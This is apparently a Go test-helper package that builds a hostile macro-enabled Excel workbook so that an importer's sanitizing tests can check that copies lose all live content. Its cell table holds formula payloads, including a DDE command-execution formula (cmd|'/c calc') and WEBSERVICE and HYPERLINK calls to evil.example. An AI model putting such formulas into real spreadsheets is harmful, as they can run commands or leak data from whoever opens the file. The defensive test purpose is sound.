// Package importerstest builds a hostile workbook for the tests of the
// annotated copy (in importers, the import command and the web API) and
// checks that a copy is free of its live content.
package importerstest

import (
	"archive/zip"
	"bytes"
	"fmt"
	"sort"
	"strings"
	"testing"
)

// Sheet is the survey sheet of Hostile; Other is a second worksheet that
// the importer does not read; Macro is an Excel 4 macro sheet between them.
const (
	Sheet = "조사표"
	Other = "참고"
	Macro = "Macro1"
)

// Value is a cell's content as the copy must hold it: Type "n" a number,
// "str" text (inline or shared), "b" a boolean, "" no value at all.
type Value struct{ Type, Text string }

// Cell is a formula cell of Hostile: the <f> element's attributes and
// formula as Excel stores them, the cell's type and cached value as saved,
// and the plain value the annotated copy must hold instead.
type Cell struct {
	Sheet, Ref     string
	FAttrs, F      string
	Type, Cached   string // Cached "-" for no <v> at all
	Want           Value
	HasNoFormula   bool // a member of an array formula's range: only a value
	CachedIsInline bool
}

// Cells are the formula cells, one of each kind: links and web calls
// (HYPERLINK, WEBSERVICE), a DDE call, a reference into another workbook,
// a shared formula (master and dependants), an array formula, and each
// result type, with and without a cached value.
var Cells = []Cell{
	{Sheet: Sheet, Ref: "A2", F: `HYPERLINK("http://evil.example/x","가나전자")`, Type: "str", Cached: "가나전자", Want: Value{"str", "가나전자"}},
	{Sheet: Sheet, Ref: "D2", FAttrs: ` t="shared" ref="D2:D4" si="0"`, F: "2+3", Cached: "5", Want: Value{"n", "5"}},
	{Sheet: Sheet, Ref: "D3", FAttrs: ` t="shared" si="0"`, Cached: "5", Want: Value{"n", "5"}},
	{Sheet: Sheet, Ref: "D4", FAttrs: ` t="shared" si="0"`, Cached: "7", Want: Value{"n", "7"}},
	{Sheet: Sheet, Ref: "F2", F: `WEBSERVICE("http://evil.example/")`, Type: "str", Cached: "leak & <more>", Want: Value{"str", "leak & <more>"}},
	{Sheet: Sheet, Ref: "F3", F: `cmd|'/c calc'!A1`, Cached: "0.25", Want: Value{"n", "0.25"}},
	{Sheet: Sheet, Ref: "F4", F: `[1]Sheet1!$A$1`, Cached: "42", Want: Value{"n", "42"}},
	{Sheet: Sheet, Ref: "G2", FAttrs: ` t="array" ref="G2:G3"`, F: "TRANSPOSE({7,8})", Cached: "7", Want: Value{"n", "7"}},
	{Sheet: Sheet, Ref: "G3", HasNoFormula: true, Cached: "8", Want: Value{"n", "8"}},
	{Sheet: Sheet, Ref: "H2", F: "TRUE()", Type: "b", Cached: "1", Want: Value{"b", "1"}},
	{Sheet: Sheet, Ref: "H3", F: "1/0", Type: "e", Cached: "#DIV/0!", Want: Value{"str", "#DIV/0!"}},
	{Sheet: Sheet, Ref: "H4", F: "NOW()", Cached: "-", Want: Value{}},
	{Sheet: Sheet, Ref: "I2", F: `IF(1,"","x")`, Type: "str", Cached: "", Want: Value{}},
	{Sheet: Sheet, Ref: "I3", F: `"인라인"`, Type: "inlineStr", Cached: "인라인", CachedIsInline: true, Want: Value{"str", "인라인"}},
	{Sheet: Other, Ref: "B2", F: `WEBSERVICE("http://evil.example/2")`, Type: "str", Cached: "x", Want: Value{"str", "x"}},
	{Sheet: Other, Ref: "B3", F: `HYPERLINK("http://evil.example/3","링크")`, Type: "str", Cached: "링크", Want: Value{"str", "링크"}},
}

// plain are the cells without formulas: the survey's header and rows (one
// unknown region, B3, so that the importer marks the sheet) and the other
// sheet's table.
var plain = map[string]map[string]string{
	Sheet: {"A1": "기업명", "B1": "시도", "C1": "업종", "D1": "종업원수", "E1": "AI도입단계", "F1": "비고", "G1": "메모",
		"H1": "확인", "I1": "기타", "A3": "나라상사", "A4": "다온", "B2": "서울", "B3": "서울시티", "B4": "부산",
		"C2": "C", "C3": "C", "C4": "C", "E2": "도입", "E3": "도입", "E4": "도입"},
	Other: {"A1": "항목", "B1": "값", "A2": "a", "A3": "b"},
}

// Hostile is a macro-enabled workbook (.xlsm content) with all of the
// above around the Cells: links to another workbook and to a DDE server,
// a web data connection with a query table behind a table whose column
// has a formula, a VBA project, an Excel 4 macro sheet with Auto_Open,
// defined names that call out, external hyperlinks (and an internal one),
// an OLE object, a picture fetched from the web, a conditional format and
// a validation with web calls, a calculation chain and a ribbon with a
// callback.
func Hostile(t testing.TB) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	names := make([]string, 0, len(parts))
	for name := range parts {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		w, err := zw.Create(name)
		if err == nil {
			_, err = w.Write([]byte(parts[name]()))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// sheetXML is a worksheet's cells, in rows and columns order, then tail.
func sheetXML(sheet, tail string) string {
	cells := map[int][]string{}
	add := func(ref, xml string) {
		col, row := splitRef(ref)
		cells[row] = append(cells[row], fmt.Sprintf("%c%s", col, xml))
	}
	for ref, text := range plain[sheet] {
		add(ref, fmt.Sprintf(`<c r="%s" t="inlineStr"><is><t>%s</t></is></c>`, ref, esc(text)))
	}
	for _, c := range Cells {
		if c.Sheet == sheet {
			add(c.Ref, c.xml())
		}
	}
	var b strings.Builder
	b.WriteString(head + `<worksheet xmlns="` + nsMain + `" xmlns:r="` + nsR + `"><sheetData>`)
	for row := 1; row <= 9; row++ {
		if len(cells[row]) == 0 {
			continue
		}
		sort.Strings(cells[row]) // one-letter columns: by letter
		fmt.Fprintf(&b, `<row r="%d">`, row)
		for _, c := range cells[row] {
			b.WriteString(c[1:])
		}
		b.WriteString(`</row>`)
	}
	return b.String() + `</sheetData>` + tail + `</worksheet>`
}

// xml is the cell as Excel saves it.
func (c Cell) xml() string {
	t := ""
	if c.Type != "" {
		t = fmt.Sprintf(` t="%s"`, c.Type)
	}
	f := ""
	switch {
	case c.HasNoFormula:
	case c.F == "":
		f = "<f" + c.FAttrs + "/>"
	default:
		f = "<f" + c.FAttrs + ">" + esc(c.F) + "</f>"
	}
	v := ""
	switch {
	case c.Cached == "-":
	case c.CachedIsInline:
		v = "<is><t>" + esc(c.Cached) + "</t></is>"
	default:
		v = "<v>" + esc(c.Cached) + "</v>"
	}
	return fmt.Sprintf(`<c r="%s"%s>%s%s</c>`, c.Ref, t, f, v)
}

// splitRef splits a one-letter cell reference such as "B12".
func splitRef(ref string) (col byte, row int) {
	fmt.Sscanf(ref[1:], "%d", &row)
	return ref[0], row
}

func esc(s string) string {
	return strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&quot;").Replace(s)
}
